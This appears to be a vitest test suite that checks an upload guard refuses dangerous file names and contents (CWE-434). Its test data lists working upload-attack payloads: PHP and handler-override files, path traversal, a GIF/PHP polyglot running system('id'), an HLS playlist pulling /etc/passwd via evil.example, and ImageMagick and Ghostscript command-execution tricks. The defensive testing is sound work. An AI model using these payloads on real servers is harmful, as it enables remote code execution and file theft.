// Uploads at sensitivity 1: names that come to a script where the file lands, names that lead out of the folder, and contents
// that a server runs or is configured by (CWE-434).

import { describe, expect, test } from 'vitest'

import { payloadGuard } from '../corpora/guard.ts'
import { exchangeOf } from '../corpora/placements.ts'

const judge = payloadGuard()

const refused = (disposition: string, type: string, content: string): boolean => {
  const { exchange } = exchangeOf(
    'POST',
    '/v1/files',
    [['content-type', 'multipart/form-data; boundary=XyZ']],
    `--XyZ\r\nContent-Disposition: form-data; name="f"; ${disposition}\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--XyZ--\r\n`,
  )
  return exchange === undefined || judge(exchange).kind === 'deny'
}

describe('a name', () => {
  test.each([
    'x.php',
    'x.PhTmL',
    'x.aspx.',
    'x.php...',
    'x.jsp%20',
    'x.php%0a',
    'x.php/',
    'x.php::$DATA',
    'x.php:.jpg',
    'x.php;.jpg',
    'x.php%00.png',
    'x.php#.png',
    'x.php%0d%0a.jpg',
    '.htaccess',
    '.user.ini',
    'WEB.CONFIG',
    'sub/php.ini',
    '../logo.png',
    '..\\logo.png',
    '..%2flogo.png',
  ])('%s is refused', (name) => {
    expect(refused(`filename="${name}"`, 'image/png', 'x')).toBe(true)
  })

  test.each(['filename="a.png"; filename*=UTF-8\'\'x.phtml', "filename*=UTF-8''web.config"])(
    'in either form, %s is refused (RFC 8187)',
    (disposition) => {
      expect(refused(disposition, 'image/png', 'x')).toBe(true)
    },
  )

  test.each([
    'photo.jpg',
    'Report 2026 (final).pdf',
    'C:\\Users\\ann\\Pictures\\logo.png',
    '/storage/emulated/0/DCIM/a.jpg',
    'php.png',
    'server.cer',
    'a..b.png',
    'C# notes.txt',
    'settings.ini',
    'nginx.config.md',
  ])('%s passes', (name) => {
    expect(refused(`filename="${name}"`, 'application/octet-stream', 'x')).toBe(false)
  })
})

const refusedAs = (header: string, value: string): boolean => {
  const headers: readonly (readonly [string, string])[] = [
    ['content-type', 'application/octet-stream'],
    [header, value],
  ]
  const { exchange } = exchangeOf('PUT', '/v1/files', headers, 'x')
  return exchange === undefined || judge(exchange).kind === 'deny'
}

describe('a name in a header of its own', () => {
  test.each([
    ['x-filename', 'x.jsp'],
    ['x-file-name', '..%2fx.php'],
    ['slug', 'x.phtml'],
    ['content-disposition', 'attachment; filename="x.php"'],
    ['content-disposition', "attachment; filename*=UTF-8''x%2Ejsp"],
  ])('is judged as of a part: %s: %s', (header, value) => {
    expect(refusedAs(header, value)).toBe(true)
  })

  test.each([
    ['x-filename', 'report 2026.pdf'],
    ['slug', 'a-week-in-php'],
    ['content-disposition', `attachment; filename="a (1).png"; filename*=UTF-8''%e2%82%ac.png`],
    ['content-disposition', 'inline'],
  ])('passes: %s: %s', (header, value) => {
    expect(refusedAs(header, value)).toBe(false)
  })
})

describe('contents', () => {
  test.each([
    'GIF89a;<script language="php">system("id");</script>',
    'AddType application/x-httpd-php .jpg',
    '<FilesMatch "x">\nSetHandler application/x-httpd-php\n</FilesMatch>',
    'auto_prepend_file=x.jpg',
    '<configuration><handlers><add name="x" path="*.jpg" verb="*" scriptProcessor="asp.dll"/></handlers></configuration>',
    '#EXTM3U\n#EXTINF:10.0,\nconcat:http://evil.example/h.txt|file:///etc/passwd\n#EXT-X-ENDLIST',
    "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'label:@/etc/x'\npop graphic-context",
    '%!PS\nuserdict /setpagedevice undef\n(%pipe%id) (w) file',
    'userdict /setpagedevice undef\nmark /OutputFile (%pipe%id) currentdevice putdeviceprops',
    '#EXTM3U\n#EXTINF:10,\nfile:/etc/passwd\n',
    '<?xml version="1.0"?><image><read filename="caption:x"/><write filename="/www/x.php"/></image>',
  ])('%s are refused', (content) => {
    expect(refused('filename="a.txt"', 'text/plain', content)).toBe(true)
  })

  test.each([
    '#EXTM3U\n#EXTINF:10.0,\nhttps://cdn.example/1.ts\n#EXT-X-ENDLIST',
    'Add type hints to the handler, and set the handler for pictures.',
    'memory_limit = 128M\nupload_max_filesize = 8M\n',
    'push graphic-context\nfill red\nrectangle 0,0 9,9\npop graphic-context',
    '%!PS-Adobe-3.0\n%%Title: report\n/Helvetica findfont 12 scalefont setfont',
  ])('%s pass', (content) => {
    expect(refused('filename="a.txt"', 'text/plain', content)).toBe(false)
  })
})
